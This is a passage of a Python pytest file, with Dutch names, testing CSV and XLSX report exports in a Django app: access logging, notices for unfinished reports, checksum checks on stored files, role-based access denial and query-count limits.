    from rapportage import services

    client = client_als("kr")
    voor = client.get(url("export_csv", rapport)).getvalue()
    services.rapport_vaststellen(door=gebruikers["kr"], rapport=rapport)
    antwoord = client.get(url("export_csv", rapport))
    assert antwoord["Content-Disposition"].endswith('-v1-vastgesteld-cijfers.csv"')
    assert antwoord.getvalue() == voor
    pdf_antwoord = client.get(url("downloaden", rapport))
    assert pdf_antwoord["Content-Disposition"].endswith('-v1-vastgesteld.pdf"')


# --- The access log, the page, and who -------------------------------------------------------------


@pytest.mark.parametrize(("naam", "soort"), [("export_csv", "CSV"), ("export_xlsx", "XLSX")])
def test_elke_export_wordt_gelogd(client_als, gebruikers, rapport, naam, soort):
    for _ in range(2):
        assert client_als("kr").get(url(naam, rapport)).status_code == 200
    regels = ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN)
    assert regels.count() == 2
    regel = regels.first()
    assert (
        regel.gebruiker,
        regel.uitkomst,
        regel.object_type,
        regel.object_id,
        regel.scherm,
        regel.toelichting,
    ) == (
        gebruikers["kr"],
        ToegangsLog.Uitkomst.TOEGESTAAN,
        "rapportage.Rapport",
        str(rapport.uuid),
        f"rapportage:{naam}",
        f"{soort} versie 1",
    )


@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize("status", [Status.AANGEVRAAGD, Status.BEZIG, Status.MISLUKT])
def test_nog_niet_klaar_geeft_een_melding(client_als, gebruikers, naam, status):
    rapport = aanvragen(gebruikers["kr"])
    Rapport.objects.filter(pk=rapport.pk).update(status=status)
    antwoord = client_als("kr").get(url(naam, rapport), follow=True)
    assert antwoord.status_code == 200
    assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
    assert "de rapportage is nog niet klaar" in antwoord.content.decode()
    assert not ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN).exists()


def test_cijfers_die_niet_te_maken_waren_geven_een_melding_en_geen_500(
    client_als, gebruikers, gegevens, monkeypatch
):
    """A part of the gathering the export does not know: the PDF is made, the figures not."""
    echt = inhoud.verzamelen
    monkeypatch.setattr(inhoud, "verzamelen", lambda *a, **k: {**echt(*a, **k), "nieuw": _Vreemd(1)})
    halfjaar = gegevens["halfjaar"]
    rapport = met_de_taak_maken(
        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
    )
    assert rapport.status == Status.KLAAR and not rapport.heeft_cijfers
    client = client_als("kr")
    pagina = client.get(url("rapport", rapport)).content.decode()
    assert "konden niet als bestand worden gemaakt" in pagina
    assert url("export_csv", rapport) not in pagina and url("export_xlsx", rapport) not in pagina
    assert url("downloaden", rapport) in pagina

    for naam, soort in (("export_csv", "CSV"), ("export_xlsx", "XLSX")):
        antwoord = client.get(url(naam, rapport), follow=True)
        assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
        assert "De PDF is wel te downloaden." in antwoord.content.decode()
        regel = ToegangsLog.objects.filter(scherm=f"rapportage:{naam}").get()
        assert (regel.uitkomst, regel.toelichting) == (
            ToegangsLog.Uitkomst.MISLUKT,
            f"{soort} versie 1: niet bewaard",
        )
    assert client.get(url("downloaden", rapport)).status_code == 200


@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
def test_een_beschadigd_cijferbestand_wordt_niet_gegeven(client_als, rapport, naam):
    pad = opslag.pad(opslag.naam_voor(rapport.uuid, naam.removeprefix("export_")))
    pad.write_bytes(pad.read_bytes() + b"veranderd")
    antwoord = client_als("kr").get(url(naam, rapport), follow=True)
    assert antwoord.redirect_chain == [(url("rapport", rapport), 302)]
    assert "ontbreekt of is beschadigd" in antwoord.content.decode()
    regel = ToegangsLog.objects.get(actie=ToegangsLog.Actie.EXPORTEREN)
    assert regel.uitkomst == ToegangsLog.Uitkomst.MISLUKT
    assert regel.toelichting.endswith("klopt niet met de controlesom")
    pad.unlink()
    assert (
        "ontbreekt of is beschadigd" in client_als("kr").get(url(naam, rapport), follow=True).content.decode()
    )


@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize(("profiel", "status"), [("kr_ander", 404), ("af", 404), ("zc", 404), ("fb", 403)])
def test_alleen_de_ketenregisseur_van_de_regio(client_als, gebruikers, naam, profiel, status):
    rapport = klaar_maken(aanvragen(gebruikers["kr"]))
    assert client_als(profiel).get(url(naam, rapport)).status_code == status
    assert not ToegangsLog.objects.filter(actie=ToegangsLog.Actie.EXPORTEREN).exists()


@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
def test_anoniem_naar_inloggen(client, gebruikers, naam):
    rapport = klaar_maken(aanvragen(gebruikers["kr"]))
    antwoord = client.get(url(naam, rapport))
    assert antwoord.status_code == 302 and antwoord["Location"].startswith(reverse("inloggen"))


def test_de_pagina_toont_de_exports_alleen_als_de_rapportage_klaar_is(client_als, gebruikers):
    rapport = aanvragen(gebruikers["kr"])
    html = client_als("kr").get(url("rapport", rapport)).content.decode()
    assert url("export_csv", rapport) not in html and url("export_xlsx", rapport) not in html

    klaar_maken(rapport)
    html = client_als("kr").get(url("rapport", rapport)).content.decode()
    assert f'href="{url("export_xlsx", rapport)}"' in html and f'href="{url("export_csv", rapport)}"' in html
    assert "samen met de PDF gemaakt" in html


def test_een_export_kost_een_vast_aantal_queries(
    client_als, gebruikers, plaatsen, django_assert_max_num_queries
):
    kr, gv, dag = gebruikers["kr"], plaatsen["gv"], timezone.localdate()

    def meer(n: int) -> None:
        for i in range(n):
            SignaalFactory(door=gebruikers["af"])
            TrajectFactory(door=gebruikers["zc"])
            knelpunt = Knelpunt.objects.create(
                regio=gv,
                thema="opvang",
                titel=f"Knelpunt {i}",
                omschrijving="Te weinig plekken.",
                ingebracht_door="Gemeente",
                datum=dag,
                vastgelegd_door=kr,
            )
            Actiepunt.objects.create(knelpunt=knelpunt, omschrijving="Bellen", eigenaar="X", deadline=dag)
            activiteit = Activiteit.objects.create(
                regio=gv,
                soort="training",
                titel="T",
                datum=dag,
                doelgroepen=["jongeren"],
                organisator="O",
                vastgelegd_door=kr,
            )
            activiteit.gemeenten.set([plaatsen["hilversum"]])

    halfjaar = Periode.halfjaar_van(dag)
    rapport = klaar_maken(aanvragen(kr, soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year))
    client = client_als("kr")
    meer(1)
    with django_assert_max_num_queries(80) as weinig:
        assert client.get(url("export_xlsx", rapport)).status_code == 200
    meer(4)
    with django_assert_max_num_queries(len(weinig.captured_queries)):
        assert client.get(url("export_xlsx", rapport)).status_code == 200
